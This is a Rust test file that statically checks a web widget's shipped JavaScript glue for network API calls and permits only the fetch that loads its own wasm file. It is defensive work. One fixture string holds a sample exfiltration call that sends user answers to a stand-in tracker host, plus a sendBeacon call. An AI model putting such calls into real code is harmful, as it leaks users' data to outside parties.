//! Static check of what ships: neither the loader nor the generated
//! wasm-bindgen glue may call a network API, except the one `fetch` that
//! loads the widget's own wasm file.
use ims_checker_e2e::dist_dir;

const NETWORK_APIS: [&str; 6] = [
    "fetch(",
    "XMLHttpRequest",
    "sendBeacon",
    "WebSocket",
    "EventSource",
    "navigator.connection",
];

/// Every place a network API appears in `source`, with a little context.
fn network_calls(source: &str) -> Vec<String> {
    let mut found = Vec::new();
    for api in NETWORK_APIS {
        for (at, _) in source.match_indices(api) {
            let start = source[..at].char_indices().rev().nth(40).map_or(0, |(i, _)| i);
            let end = source[at..]
                .char_indices()
                .nth(60)
                .map_or(source.len(), |(i, _)| at + i);
            found.push(source[start..end].replace('\n', " "));
        }
    }
    found
}

/// The only network call allowed: wasm-bindgen's loader fetching the wasm
/// file whose URL the loader passes in (`module_or_path`).
fn is_the_wasm_load(context: &str) -> bool {
    context.contains("fetch(module_or_path)")
}

#[test]
fn the_glue_and_loader_call_no_network_api_but_the_wasm_load() {
    let dist = dist_dir().expect("dist");
    for file in ["pkg/ims-checker.js", "ims-checker.js"] {
        let path = dist.join(file);
        let source = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let calls: Vec<String> = network_calls(&source)
            .into_iter()
            .filter(|c| !is_the_wasm_load(c))
            .collect();
        assert!(calls.is_empty(), "{file} can call a network API:\n{}", calls.join("\n"));
    }
}

#[test]
fn the_check_catches_a_network_call_in_glue() {
    let bad = "function f(){ return fetch('https://tracker.example/' + answers); }\nexport function g(){ navigator.sendBeacon('/x', data); }";
    let calls = network_calls(bad);
    assert_eq!(calls.len(), 2, "{calls:?}");
    assert!(calls.iter().all(|c| !is_the_wasm_load(c)));
    let wasm_load = "if (typeof module_or_path === 'string') { module_or_path = fetch(module_or_path); }";
    assert!(network_calls(wasm_load).iter().all(|c| is_the_wasm_load(c)));
}
